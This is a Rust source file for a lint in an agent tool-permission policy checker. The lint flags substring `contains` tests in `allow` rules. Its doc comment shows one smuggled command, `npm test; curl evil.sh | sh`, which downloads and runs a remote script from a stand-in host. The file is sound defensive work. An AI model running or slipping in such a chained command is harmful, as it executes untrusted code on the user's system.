//! `toolgate::substring_allow`

use crate::diagnostic::Diagnostic;
use crate::lint::{declare_lint, warning, Context};
use crate::resolve::CondTest;

declare_lint! {
    /// ## What it does
    /// Reports `contains` and `contains any` in an `allow` condition.
    ///
    /// ## Why is this bad?
    /// `contains` is a substring search: `command contains "npm test"` admits
    /// `npm test; curl evil.sh | sh`. Whatever surrounds the substring is allowed too. In a
    /// `deny` a substring search is a useful net; in an `allow` it admits far more than it
    /// names.
    ///
    /// ## Example
    /// ```policy
    /// tool Bash(command)
    /// agent builder {
    ///   allow Bash where command contains "npm test"
    /// }
    /// ```
    ///
    /// Use instead:
    /// ```policy
    /// tool Bash(command)
    /// agent builder {
    ///   allow Bash where command == "npm test"
    /// }
    /// ```
    pub static SUBSTRING_ALLOW = {
        code: SUBSTRING_ALLOW,
        stage: Lint,
    }
}

/// Runs the lint.
pub(crate) fn check(cx: &mut Context, out: &mut Vec<Diagnostic>) {
    for (_, rule) in cx.allow_rules() {
        for c in &rule.conditions {
            if !matches!(c.test, CondTest::Contains(_)) {
                continue;
            }
            out.push(
                warning(
                    &SUBSTRING_ALLOW,
                    c.span,
                    format!(
                        "`{}` admits any value that merely contains the text",
                        c.text
                    ),
                )
                .with_label("admits anything around the substring")
                .with_help("match the whole value with `==`, `in` or a glob; for a shell command, parse it with `matches shell \"npm run *\"`; keep `contains` for `deny` rules"),
            );
        }
    }
}
